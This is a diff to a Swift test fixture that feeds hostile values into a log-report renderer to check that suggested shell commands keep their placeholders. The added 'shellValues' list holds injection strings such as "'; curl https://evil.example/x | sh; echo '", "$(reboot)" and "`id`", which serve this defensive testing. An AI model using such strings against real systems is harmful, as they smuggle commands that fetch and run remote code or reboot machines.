@@ -34,6 +34,34 @@ enum Hostile {
                             period: Sample.time(20), count: 2)],
         trend: [TrendCount(bucket: Sample.time(20), registry: registry, type: .anonymousPull, count: 2)])
 
+    /// Values that would break out of a pasted shell command, as a log could name them.
+    static let shellValues = [
+        "'; curl https://evil.example/x | sh; echo '", "$(reboot)", "`id`", "a b", "-rf", "x\nreboot",
+        "203.0.113.7; reboot", "00000000-0000-0000-0000-00000000000$(x)", script, sgr + "web",
+    ]
+
+    /// Grouped by registry and type, with the evidence of each group hostile: the commands must
+    /// keep their placeholders and no value may reach them.
+    static let evidenceReport = Report(
+        filter: filter, keys: [.registry, .type], bucket: .day,
+        groups: [GroupCount(registry: registry, type: .ipNotAllowed, count: 3),
+                 GroupCount(registry: "contosoprod", type: .identityPermission, count: 2),
+                 GroupCount(registry: "contosoprod", type: .accessDenied, count: 2),
+                 GroupCount(registry: "contosoprod", type: .aadCredential, count: 1),
+                 GroupCount(registry: "contosoprod", type: .unauthorized, count: 1)],
+        trend: [],
+        evidence: [
+            GroupEvidence(registry: registry, type: .ipNotAllowed, clientIPs: EvidenceValues(shellValues),
+                          codes: EvidenceValues(shellValues)),
+            GroupEvidence(registry: "contosoprod", type: .identityPermission, identities: EvidenceValues(shellValues)),
+            GroupEvidence(registry: "contosoprod", type: .accessDenied, identities: EvidenceValues(shellValues),
+                          repositories: EvidenceValues(shellValues)),
+            GroupEvidence(registry: "contosoprod", type: .aadCredential, identities: EvidenceValues(shellValues),
+                          codes: EvidenceValues(shellValues)),
+            GroupEvidence(registry: "contosoprod", type: .unauthorized, identities: EvidenceValues(Array(shellValues.reversed())),
+                          repositories: EvidenceValues(Array(shellValues.reversed()))),
+        ])
+
     static let timeline = Timeline([
         Sample.stored(1, .unauthorized, registry, host, Sample.time(20, 3), line: 1, source: source, excerpt),
         Sample.stored(2, .unauthorized, registry, host, Sample.time(20, 3, 1), line: 2, source: source, excerpt),
@@ -43,7 +71,7 @@ enum Hostile {
     /// Every rendering of the hostile values, by name.
     static var outputs: [(name: String, text: String)] {
         var all: [(String, String)] = []
-        for (name, report) in [("pairs", pairReport), ("dimensions", dimensionReport)] {
+        for (name, report) in [("pairs", pairReport), ("dimensions", dimensionReport), ("evidence", evidenceReport)] {
             all += [
                 ("\(name) table", report.renderTable()),
                 ("\(name) table ascii", report.renderTable(TableOptions(ascii: true))),
